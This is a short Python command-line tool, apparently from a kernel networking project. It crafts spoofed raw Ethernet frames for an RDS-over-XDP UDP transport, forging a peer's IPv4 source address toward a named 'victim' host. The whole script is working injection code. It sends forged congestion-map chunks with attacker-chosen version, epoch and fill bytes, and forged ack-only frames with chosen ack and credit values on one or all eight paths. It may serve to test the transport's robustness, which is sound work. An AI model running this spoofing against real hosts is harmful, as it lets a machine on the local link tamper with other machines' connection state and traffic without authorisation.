#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""Spoofed XDP transport frames (docs/xdp-encap.md) from a host on the link:
raw Ethernet frames through AF_PACKET, with the IPv4 source address of a
peer, to the victim's MAC and address.

  rdsx-spoof.py IFACE DMAC SADDR DADDR cong VER EPOCH ACK FILL
      the 8 chunks of a congestion map of version VER, every byte FILL,
      h_csum EPOCH and h_ack ACK, on path 0
  rdsx-spoof.py IFACE DMAC SADDR DADDR ack ACK EPOCH CREDIT [PATH]
      an ack-only frame on each of the 8 paths, or on PATH only
Numbers take any base (0x...). Prints how many frames went out.
"""
import socket
import struct
import sys

RDSX_PORT, SPORT_BASE, CHUNK, MAP_BYTES = 16386, 16392, 1024, 8192


def rds_header(seq=0, ack=0, hlen=0, sport=0, dport=0, flags=0, credit=0, epoch=0):
    return struct.pack(">QQIHHBB4sH16s", seq, ack, hlen, sport, dport, flags, credit,
                       b"\0\0\0\0", epoch, b"")


def ip_csum(b):
    s = sum(struct.unpack(">10H", b))
    s = (s & 0xffff) + (s >> 16)
    s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def frame(dmac, saddr, daddr, path, payload):
    udp = struct.pack(">HHHH", SPORT_BASE + path, RDSX_PORT, 8 + len(payload), 0) + payload
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0,
                     socket.inet_aton(saddr), socket.inet_aton(daddr))
    ip = ip[:10] + struct.pack(">H", ip_csum(ip)) + ip[12:]
    return dmac + b"\x02\x00\x00\x00\x00\x99" + b"\x08\x00" + ip + udp


def main(argv):
    if len(argv) < 6:
        sys.exit(__doc__)
    iface, dmac, saddr, daddr, kind = argv[1:6]
    n = [int(a, 0) for a in argv[6:]]
    dmac = bytes.fromhex(dmac.replace(":", ""))
    frames = []
    if kind == "cong" and len(n) == 4:
        ver, epoch, ack, fill = n
        for i in range(MAP_BYTES // CHUNK):
            h = rds_header(seq=ver, ack=ack, hlen=MAP_BYTES, dport=i * CHUNK, flags=1, epoch=epoch)
            frames.append(frame(dmac, saddr, daddr, 0, h + bytes([fill]) * CHUNK))
    elif kind == "ack" and len(n) in (3, 4):
        ack, epoch, credit = n[:3]
        for path in n[3:] or range(8):
            frames.append(frame(dmac, saddr, daddr, path, rds_header(ack=ack, credit=credit, epoch=epoch)))
    else:
        sys.exit(__doc__)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    for f in frames:
        s.send(f)
    print(len(frames))


if __name__ == "__main__":
    main(sys.argv)
